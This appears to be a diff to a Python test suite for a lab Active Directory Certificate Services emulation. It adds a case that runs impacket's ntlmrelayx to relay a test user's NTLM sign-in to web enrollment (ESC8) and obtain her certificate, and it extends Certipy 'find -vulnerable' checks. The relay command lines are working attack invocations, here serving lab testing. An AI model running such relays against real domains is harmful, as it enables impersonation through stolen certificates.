@@ -1165,18 +1165,22 @@ def wait_listening(port, proc, what, seconds=30):
     raise Fail("%s is not listening on %d after %d s" % (what, port, seconds))
 
 
-def relay_alice(ctx, until):
-    """Runs ntlmrelayx against the server, signs alice in through it with
-    curl, and waits until `until(output, loot)` holds; returns both."""
-    rpc_server(ctx)
+def relay_alice(ctx, until, target=None):
+    """Runs ntlmrelayx against the server (ICertPassage, or `target`'s
+    arguments), signs alice in through it with curl, and waits until
+    `until(output, pfx files)` holds; returns the output, the loot folder
+    and the PFX files (in the loot or, for web enrollment, the workdir)."""
     exe = os.environ.get("NTLMRELAYX")
     if not exe or not os.path.exists(exe):
         raise Skip("no ntlmrelayx venv (run.sh makes it)")
+    if target is None:
+        rpc_server(ctx)
+        target = ["-t", "rpc://%s" % ctx.server.host, "-rpc-mode", "ICPR",
+                  "-icpr-ca-name", ctx.server.ca_name()]
     curl = tool("curl", "curl")
     port = free_port()
     loot = os.path.join(ctx.workdir, "loot")
-    cmd = [exe, "-t", "rpc://%s" % ctx.server.host, "-rpc-mode", "ICPR",
-           "-icpr-ca-name", ctx.server.ca_name(), "--http-port", str(port), "-l", loot,
+    cmd = [exe] + target + ["--http-port", str(port), "-l", loot,
            "--no-smb-server", "--no-wcf-server", "--no-raw-server", "--no-rpc-server",
            "--no-winrm-server", "--no-mssql-server", "--no-rdp-server"]
     log("ntlmrelayx: %s" % " ".join(cmd))
@@ -1195,7 +1199,8 @@ def relay_alice(ctx, until):
             while True:
                 with open(out_path, "rb") as f:
                     said = f.read().decode("utf-8", "replace")
-                pfx = files_with(loot, ".pfx") if os.path.isdir(loot) else []
+                pfx = [os.path.join(loot, f) for f in files_with(loot, ".pfx")] if os.path.isdir(loot) else []
+                pfx += [os.path.join(ctx.workdir, f) for f in files_with(ctx.workdir, ".pfx")]
                 if until(said, pfx) or time.monotonic() > deadline:
                     break
                 time.sleep(0.2)
@@ -1214,13 +1219,34 @@ def relay_alice(ctx, until):
 def _(ctx):
     said, loot, pfx = relay_alice(ctx, lambda said, pfx: pfx or "Error occured" in said)
     check("against rpc://" in said and "SUCCEED" in said, "the relay did not sign in: %s" % said[-600:])
-    check(pfx, "no PFX in the loot: %s" % said[-600:])
-    with open(os.path.join(loot, pfx[0]), "rb") as f:
+    check_relayed_pfx(ctx, said, pfx)
+    check_rpc_journal(ctx, level="connect")
+
+
+def check_relayed_pfx(ctx, said, pfx):
+    """The relay's PFX is alice's User certificate from this CA, with its key."""
+    check(pfx, "no PFX from the relay: %s" % said[-600:])
+    with open(pfx[0], "rb") as f:
         key, cert, _ = pkcs12.load_key_and_certificates(f.read(), None)
     check(key is not None and same_key(cert.public_key(), key.public_key()), "the loot's key does not match")
     check("alice@contoso.test" in [u.lower() for u in san_upns(cert)], "UPN %r" % san_upns(cert))
     check_issued_by(cert, ctx.server.ca_cert())
-    check_rpc_journal(ctx, level="connect")
+
+
+# ESC8: the same relay to web enrollment on IIS's port 80 (`--adcs`), as
+# Certipy's ESC8 finding says it can be.
+@case("impacket.ntlmrelayx_esc8_relay_to_web_enrollment_gets_a_user_pfx", modes=("lab",), transports=("https",))
+def _(ctx):
+    iis = ctx.server.info.get("iis")
+    if not iis:
+        raise Skip("IIS's port 80 is not served (needs root)")
+    target = ["-t", iis["http_url"] + "certfnsh.asp", "--adcs", "--template", "User"]
+    said, _loot, pfx = relay_alice(ctx, lambda said, pfx: pfx or "ERROR" in said, target=target)
+    check("GOT CERTIFICATE" in said, "the relay got no certificate: %s" % said[-600:])
+    check_relayed_pfx(ctx, said, pfx)
+    # The relayed sign-in, then the submission on that NTLM connection.
+    seen = [(e.get("method"), e.get("user"), e.get("auth")) for e in journal(ctx) if e.get("path", "").endswith("certfnsh.asp")]
+    check(("POST", "CONTOSO\\alice", "connection") in seen, "certfnsh.asp journal: %s" % seen)
 
 
 @case("impacket.ntlmrelayx_esc11_refused_while_encryption_is_enforced", modes=("enterprise",), transports=("http",))
@@ -1854,6 +1880,10 @@ def check_find_output(ctx, out, escs=("ESC1",)):
     # Authenticated Users enroll) is ESC1 for both; 5.x also flags the
     # schema-1 templates with an enrollee-supplied subject (ESC15) and
     # enrollee-supplied server certificates (ESC17).
+    # Web enrollment on IIS's port 80 (served where it can be bound, as
+    # by root here): ESC8, as on a CA with the Web Enrollment role.
+    if ctx.server.info.get("iis"):
+        escs = tuple(escs) + ("ESC8",)
     flagged = sorted(set(re.findall(r"\b(ESC\d+)\s+:", out)))
     check(flagged == sorted(escs), "ESCs flagged %r, want %r: %s" % (flagged, list(escs), out_tail(out)))
 
@@ -2050,9 +2080,12 @@ def lab_findings(ctx):
 
 
 def template_escs(out):
-    """{template name: [ESCn, …]} from `certipy find -stdout` text."""
-    found, current = {}, None
+    """{template name: [ESCn, …]} from `certipy find -stdout` text; the
+    CA's own under "CA"."""
+    found, current = {"CA": []}, "CA"
     for line in out.splitlines():
+        if line.startswith("Certificate Templates"):
+            current = None
         m = re.match(r"\s*Template Name\s+: (.+)$", line)
         if m:
             current = m.group(1).strip()
@@ -2065,18 +2098,23 @@ def template_escs(out):
 
 
 def check_lab_find(ctx, exe, known):
-    """Certipy `find -vulnerable` flags each finding the ready file lists on
-    a template (of the ESCs this Certipy version knows) on that template."""
+    """Certipy `find -vulnerable` flags each finding the ready file lists
+    (of the ESCs this Certipy version knows) on its template, or on the CA
+    (ESC8 where IIS's port 80 is served), and nothing else on a template."""
     ldap_server(ctx)
+    if not ctx.server.info.get("iis"):
+        known = tuple(k for k in known if k != "ESC8")
     out = run_certipy(ctx, exe + ["find", "-u", "alice@contoso.test", "-p", ALICE[1],
                                   "-dc-ip", ctx.server.host, "-timeout", "5", "-stdout", "-vulnerable"])
     flagged = template_escs(out)
-    want = [(f["esc"], f["target"]) for f in lab_findings(ctx) if f["target"] != "CA" and f["esc"] in known]
+    want = [(f["esc"], f["target"]) for f in lab_findings(ctx) if f["esc"] in known]
     check(len(want) == len(known), "findings %r for %r" % (want, known))
     for esc, template in want:
         check(esc in flagged.get(template, []), "%s not flagged on %s: %r" % (esc, template, flagged))
         # Each a minimal example: nothing else flagged on it, but ESC3 on
         # ESC2 (Any Purpose includes the Certificate Request Agent EKU).
+        if template == "CA":
+            continue
         extra = set(flagged.get(template, [])) - {esc} - ({"ESC3"} if esc == "ESC2" else set())
         check(not extra, "%s also flagged %s: %r" % (template, sorted(extra), flagged))
     return flagged
@@ -2084,12 +2122,12 @@ def check_lab_find(ctx, exe, known):
 
 @case("certipy5.find_flags_each_lab_esc_on_its_template", modes=("lab",), transports=("https",))
 def _(ctx):
-    check_lab_find(ctx, certipy5_exe(), ("ESC1", "ESC2", "ESC3", "ESC4", "ESC9", "ESC13", "ESC15"))
+    check_lab_find(ctx, certipy5_exe(), ("ESC1", "ESC2", "ESC3", "ESC4", "ESC8", "ESC9", "ESC13", "ESC15"))
 
 
 @case("certipy.find_flags_each_lab_esc_on_its_template", modes=("lab",), transports=("https",))
 def _(ctx):
-    check_lab_find(ctx, certipy_exe(), ("ESC1", "ESC2", "ESC3", "ESC4", "ESC9"))
+    check_lab_find(ctx, certipy_exe(), ("ESC1", "ESC2", "ESC3", "ESC4", "ESC8", "ESC9"))
 
 
 def lab_req(ctx, exe, template, *extra):
